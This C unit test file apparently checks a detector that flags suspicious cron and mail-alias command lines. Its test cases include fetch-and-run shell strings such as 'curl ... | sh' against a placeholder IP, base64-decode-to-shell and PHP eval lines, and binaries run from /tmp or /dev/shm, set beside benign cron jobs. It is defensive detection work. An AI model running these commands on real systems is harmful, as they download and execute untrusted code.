/* SPDX-License-Identifier: BSD-2-Clause */
/* Lines that run programs: what is seldom honest is told, what every server has is not. */
#include <stdarg.h>
#include <setjmp.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>

#include "probe/job_line.h"

static void what_a_command_does(void **state)
{
	static const struct {
		const char *command;
		unsigned int traits;
	} cases[] = {
		{"curl -s http://192.0.2.1/x | sh", JOB_LINE_FETCHES},
		{"wget -q -O - http://192.0.2.1/x|bash -s -- --quiet", JOB_LINE_FETCHES},
		{"nice -n 19 curl http://192.0.2.1/x | sudo -u www-data php", JOB_LINE_FETCHES},
		{"bash -c \"$(curl -fsSL http://192.0.2.1/x)\"", JOB_LINE_FETCHES},
		{"bash <(wget -qO- http://192.0.2.1/x)", JOB_LINE_FETCHES},
		{"sh -c 'curl http://192.0.2.1/x | sh' >/dev/null 2>&1", JOB_LINE_FETCHES},
		{"echo aGVsbG8K | base64 -d | sh", JOB_LINE_DECODES},
		{"php -r \"eval(base64_decode('aGVsbG8K'));\"", JOB_LINE_DECODES},
		{"/dev/shm/.x/send", JOB_LINE_TEMPORARY},
		{"cd / && /usr/bin/php8.2 -q /tmp/mail.php", JOB_LINE_TEMPORARY},
		{"LANG=C nohup perl /var/tmp/m.pl", JOB_LINE_TEMPORARY},
		{"wget -O /tmp/x http://192.0.2.1/x; sh /tmp/x", JOB_LINE_TEMPORARY},
		/* what servers have */
		{"curl -s https://www.example.com/wp-cron.php?doing_wp_cron >/dev/null 2>&1", 0},
		{"wget -qO- https://www.example.com/cron.php &> /dev/null", 0},
		{"find /tmp -mtime +7 -delete", 0},
		{"tar -czf /tmp/backup.tgz /var/www && mv /tmp/backup.tgz /backup/", 0},
		{"flock -n /tmp/cron.lock php /var/www/site/artisan schedule:run", 0},
		{"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; "
		 "fi",
		 0},
		{"curl -s https://www.example.com/feed | php /var/www/site/import.php", 0},
		{"curl -s https://www.example.com/a.json | python3 -m json.tool", 0},
		{"curl -s https://www.example.com/list | grep sh", 0},
		{"mysqldump db | base64 > /backup/db.b64; sh /usr/local/bin/push", 0},
		{"echo 'curl x | sh'", 0},
		{"cd / && run-parts --report /etc/cron.hourly", 0},
		{"test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r", 0},
		{"", 0},
		{"\"", 0},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++)
		if (job_line_traits(span_str(cases[i].command)) != cases[i].traits)
			fail_msg("%s: %u", cases[i].command, job_line_traits(span_str(cases[i].command)));
}

static void assert_span(struct span got, const char *wanted)
{
	if (!span_equal(got, span_str(wanted)))
		fail_msg("%.*s, not %s", (int)got.len, (const char *)got.at, wanted);
}

static void lines_of_a_crontab(void **state)
{
	(void)state;
	assert_span(job_line_of_cron(span_str("*/5 * * * *  www-data\tphp a.php \n"), true), "php a.php");
	assert_span(job_line_of_cron(span_str("0 4 1-7 jan mon /x y"), false), "/x y");
	assert_span(job_line_of_cron(span_str("@reboot /x"), false), "/x");
	assert_span(job_line_of_cron(span_str("@daily root /x"), true), "/x");
	assert_span(job_line_of_cron(span_str("# 1 2 3 4 5 /x"), false), "");
	assert_span(job_line_of_cron(span_str("PATH=/tmp:/bin"), false), "");
	assert_span(job_line_of_cron(span_str("* * *"), false), "");
}

static void pipes_of_aliases(void **state)
{
	struct span rest = span_str("list: \"|/usr/bin/a b, c\", |/bin/d, x@example.com"), command;
	(void)state;
	assert_true(job_line_next_pipe(&rest, &command));
	assert_span(command, "/usr/bin/a b, c");
	assert_true(job_line_next_pipe(&rest, &command));
	assert_span(command, "/bin/d");
	assert_false(job_line_next_pipe(&rest, &command));
	rest = span_str("|\"/tmp/x y\"");
	assert_true(job_line_next_pipe(&rest, &command));
	assert_span(command, "/tmp/x y");
	rest = span_str(" # |/tmp/x");
	assert_false(job_line_next_pipe(&rest, &command));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_a_command_does),
		cmocka_unit_test(lines_of_a_crontab),
		cmocka_unit_test(pipes_of_aliases),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
